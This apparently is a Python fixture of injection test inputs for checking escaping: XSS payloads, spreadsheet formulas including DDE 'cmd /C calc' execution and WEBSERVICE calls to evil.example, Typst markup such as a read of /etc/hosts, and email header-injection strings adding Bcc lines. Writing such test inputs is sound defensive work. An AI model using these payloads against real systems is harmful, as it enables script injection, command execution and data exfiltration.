"""What people may type to make text more than text: 30 of each kind."""

MARK = "data-injected"
PAYLOADS = [
    f"<script {MARK}>alert(1)</script>",
    f"</title><script {MARK}>alert(1)</script>",
    f"<img {MARK} src=x onerror=alert(1)>",
    f"<svg {MARK} onload=alert(1)>",
    f'"><b {MARK}>x</b>',
    f"'><b {MARK}>x</b>",
    f"' {MARK} autofocus onfocus=alert(1) x='",
    f'" {MARK} autofocus onfocus=alert(1) x="',
    f"</textarea><b {MARK}>x</b>",
    f"</option></select><b {MARK}>x</b>",
    f"<!--><b {MARK}>x</b>-->",
    f"--><b {MARK}>x</b>",
    f"]]><b {MARK}>x</b>",
    f"<iframe {MARK} srcdoc='<script>alert(1)</script>'>",
    f"<a {MARK} href=javascript:alert(1)>x</a>",
    f"<form {MARK} action=//evil.example><input name=q>",
    f"<base {MARK} href=//evil.example/>",
    f"<meta {MARK} http-equiv=refresh content=0;url=//evil.example>",
    f"<style {MARK}>*{{display:none}}</style>",
    f"<link {MARK} rel=stylesheet href=//evil.example/x.css>",
    f"&lt;b {MARK}&gt;x&lt;/b&gt;",
    f"%3Cb {MARK}%3Ex%3C/b%3E",
    f"\\u003cb {MARK}\\u003ex",
    f"＜script {MARK}＞alert(1)＜/script＞",
    f"{{{{ 7 * 7 }}}}<b {MARK}>",
    f"{{% raw %}}<b {MARK}>",
    f"${{7*7}}<b {MARK}>",
    f"<math><mtext {MARK}></mtext></math>",
    f"<details {MARK} open ontoggle=alert(1)>",
    f"<template {MARK}><script>alert(1)</script></template>",
]
FORMULAS = [
    "=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"//evil.example\")", "=cmd|' /C calc'!A0",
    "＝1+1", "＋1", "'=1+1", "=IMPORTXML(1)", "－1", "＠SUM(1)", "''=1+1", "\t\t=1", "\t+1", "\r-1", "\t@A1",
    "=A1", "=-1", "+-1", "-+1", "@A1", "=DDE(\"cmd\";\"/C calc\";\"1\")", "=WEBSERVICE(\"//evil.example\")",
    "{=1+1}", "=\"a\"&\"b\"", "-2+3+cmd|' /C calc'!A0", "@IMPORTDATA(1)",
]  # fmt: skip

MARKUP = [
    "*fuerte*", "_cursiva_", "$x^2$", "#emph[x]", "#text(red)[x]", '#read("/etc/hosts")',
    '#include "slip.typ"', '#import "slip.typ": *', "#panic()", "#pagebreak()", "#sys.inputs",
    "#{1+1}", "#(1+1)", "= Título", "- punto", "+ número", "/ a: b", "<marca>", "@marca", "`crudo`",
    "// callado", "/* callado */", "a~b", "a---b", "a...b", "\\u{41}", "]#x[", '"); panic("',
    "#let x = 1", "https://evil.example",
]  # fmt: skip
"""What typst reads in its markup."""

LINES = ["\r\n", "\n", "\r", "\n\n", "\r\n\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028"]
HEADERS = [f"x{end}{name}: mala@evil.example" for end in LINES for name in ("Bcc", "Reply-To", "X-Injected")]
"""A line that ends, in each way that something takes for one, and a header after it."""
